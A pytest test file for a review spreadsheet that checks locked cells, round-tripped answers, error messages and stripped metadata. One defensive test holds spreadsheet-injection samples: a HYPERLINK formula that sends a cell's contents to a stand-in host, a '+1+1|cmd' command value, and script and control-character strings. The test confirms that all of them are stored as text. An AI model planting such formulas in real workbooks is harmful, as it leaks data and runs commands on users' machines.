"""The spreadsheet form: what is locked, what is typed in comes back, and text that would be a formula stays text."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from medreason_dist.errors import SourceError
from medreason_dist.review import workbook
from medreason_dist.review.answers import parse_answers
from medreason_dist.review.criteria import Criterion, Preference
from medreason_dist.review.key import Key
from medreason_dist.review.workbook import ASKED, COLUMNS, read_workbook, write_workbook
from tests.review.datasets import published_rows, write_dataset
from tests.review.reviews import make_config, make_key

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"see")'


@pytest.fixture(scope="module")
def key(tmp_path_factory: pytest.TempPathFactory) -> Key:
    return make_key(make_config(tmp_path_factory.mktemp("key"), questions=3))


def edit(content: bytes, change: Callable[[Worksheet], None]) -> bytes:
    """Returns a workbook after somebody changed the sheet «review» and saved it."""
    book = load_workbook(io.BytesIO(content))
    change(book["review"])
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def at(name: str) -> int:
    return COLUMNS.index(name) + 1


def rows(sheet: Worksheet, **wanted: str) -> list[int]:
    return [
        row
        for row in range(2, sheet.max_row + 1)
        if all(sheet.cell(row, at(name)).value == value for name, value in wanted.items())
    ]


def test_what_is_typed_comes_back(key: Key) -> None:
    def fill(sheet: Worksheet) -> None:
        (row,) = rows(sheet, item="q2", trace="B")
        # As programs store them: numbers, numbers as text, floats.
        for name, value in zip(Criterion, (1, "2", 3.0, None), strict=True):
            sheet.cell(row, at(name)).value = value
        sheet.cell(row, at("wrong steps")).value = "2\n\n 1 : it says: «no» "
        sheet.cell(row, at("comment")).value = FORMULA
        (row,) = rows(sheet, item="q2", trace="A")
        sheet.cell(row, at("preference")).value = "B"
        (row,) = rows(sheet, item="q1", trace="A")
        sheet.cell(row, at("wrong steps")).value = 3
        sheet.cell(sheet.max_row + 5, 1).value = None

    def turn_over(sheet: Worksheet) -> None:
        held = list(sheet.iter_rows(min_row=2, values_only=True))
        for row, values in zip(sheet.iter_rows(min_row=2), reversed(held), strict=True):
            for cell, value in zip(row, values, strict=True):
                cell.value = value

    book = edit(edit(write_workbook(key.questionnaire("r1")), fill), turn_over)
    answers = parse_answers(read_workbook(book, "r1.xlsx"), key, "r1.xlsx")
    trace = answers.items["q2"].traces["B"]
    assert list(trace.grades.values()) == [1, 2, 3, None]
    assert trace.wrong == {2: "", 1: "it says: «no»"}
    assert trace.comment == FORMULA
    assert answers.items["q2"].preference is Preference.B
    assert answers.items["q1"].traces["A"].wrong == {3: ""}
    assert not answers.items["q3"].given


def test_only_answers_can_be_edited_and_grades_are_chosen_from_a_list(key: Key) -> None:
    book = load_workbook(io.BytesIO(write_workbook(key.questionnaire("r1"))))
    sheet = book["review"]
    assert book["about"].protection.sheet
    assert sheet.protection.sheet
    for row in sheet.iter_rows(min_row=2):
        unlocked = {COLUMNS[cell.column - 1] for cell in row if not cell.protection.locked}
        expected = set(ASKED) if row[at("trace") - 1].value == "A" else set(ASKED) - {"preference"}
        assert unlocked == expected
    lists = {each.formula1: each for each in sheet.data_validations.dataValidation}
    assert set(lists) == {'"1,2,3,4,5"', '"A,B,none"'}
    assert all(f"{letter}2" in lists['"1,2,3,4,5"'].sqref for letter in "FGHI")
    explained = "\n".join(str(value) for row in book["about"].iter_rows(values_only=True) for value in row)
    assert "Every step follows, and the answer follows from them." in explained


def test_the_workbook_asks_for_no_personal_data(key: Key) -> None:
    with zipfile.ZipFile(io.BytesIO(write_workbook(key.questionnaire("r1")))) as archive:
        assert b'filterPrivacy="1"' in archive.read("xl/workbook.xml")
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2
    assert "lastModifiedBy" not in core


def test_hostile_text_is_text_in_the_workbook(tmp_path: Path) -> None:
    hostile = [
        FORMULA,
        "+1+1|cmd",
        "-2",
        "@SUM(A1)",
        "#N/A",
        "bell \x07 null \ufffe",
        "\u202eabc",
        "<script>",
        "x" * 40_000,
    ]
    hostile_rows = [
        {
            **row,
            "question": text,
            "answer": text,
            "reasoning": text,
            "answer_label": None,
            "options": "",
            "context": None,
        }
        for row, text in zip(published_rows(len(hostile), "graph"), hostile, strict=True)
    ]
    config = make_config(tmp_path, questions=9, paired=False)
    write_dataset(tmp_path / "one", hostile_rows)
    content = write_workbook(make_key(config).questionnaire("r1"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert all(b"<f>" not in archive.read(name) and b"<f " not in archive.read(name) for name in archive.namelist())
    sheet = load_workbook(io.BytesIO(content))["review"]
    cells = {
        sheet.cell(row, at("question")).value: sheet.cell(row, at("question")) for row in range(2, sheet.max_row + 1)
    }
    assert {cell.data_type for cell in cells.values()} == {"s"}
    assert {each for each in cells if len(each) < 100} == {*hostile[:5], "bell \ufffd null \ufffd", *hostile[6:8]}
    assert cells[FORMULA].quotePrefix
    (long,) = (each for each in cells if len(each) > 100)
    assert len(long) == 32_767
    assert long.endswith("the review page has all of it)")


def retitle(sheet: Worksheet) -> None:
    sheet.cell(1, at("logic")).value = "reason"


def repeat(sheet: Worksheet) -> None:
    sheet.cell(3, at("item")).value = sheet.cell(2, at("item")).value
    sheet.cell(3, at("trace")).value = "A"


def empty_row(sheet: Worksheet) -> None:
    sheet.delete_rows(2)


def word(sheet: Worksheet) -> None:
    sheet.cell(2, at("accuracy")).value = "good"


def formula(sheet: Worksheet) -> None:
    sheet.cell(2, at("accuracy")).value = "=2+2"


def prose(sheet: Worksheet) -> None:
    sheet.cell(2, at("wrong steps")).value = "the second"


def twice(sheet: Worksheet) -> None:
    for row in (2, 3):
        sheet.cell(row, at("preference")).value = "A"


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (retitle, "the columns of the sheet «review»"),
        (repeat, "two rows of one trace"),
        (empty_row, "'A' is missing"),
        (word, "the grade 'good' for accuracy"),
        (formula, "the grade '=2\\+2' for accuracy"),
        (prose, "the wrong step 'the second' is not a number"),
        (twice, "two preferences for one item"),
    ],
)
def test_what_does_not_answer_is_told(key: Key, change: Callable[[Worksheet], None], told: str) -> None:
    content = edit(write_workbook(key.questionnaire("r1")), change)
    with pytest.raises(SourceError, match=told):
        parse_answers(read_workbook(content, "r1.xlsx"), key, "r1.xlsx")


def test_other_workbooks_are_told(key: Key, monkeypatch: pytest.MonkeyPatch) -> None:
    other = io.BytesIO()
    Workbook().save(other)
    content = write_workbook(key.questionnaire("r1"))
    for held, told in ((other.getvalue(), "KeyError"), (content[: len(content) // 2], "BadZipFile")):
        with pytest.raises(SourceError, match=f"not a review's workbook: {told}"):
            read_workbook(held, "r1.xlsx")
    monkeypatch.setattr(workbook, "LARGEST_BYTES", 20_000)
    with pytest.raises(SourceError, match=r"unpacks to [\d,]+ bytes"):
        read_workbook(content, "r1.xlsx")


def test_a_workbook_of_a_changed_dataset_is_told(key: Key) -> None:
    def rewrite(questions: Any) -> Any:
        return [replace(each, answer="another") for each in questions]

    changed = Key(replace(key.sample, questions=rewrite(key.sample.questions)), {}).extend(["r1"])
    held = read_workbook(write_workbook(changed.questionnaire("r1")), "r1.xlsx")
    with pytest.raises(SourceError, match="from another sample"):
        parse_answers(held, key, "r1.xlsx")
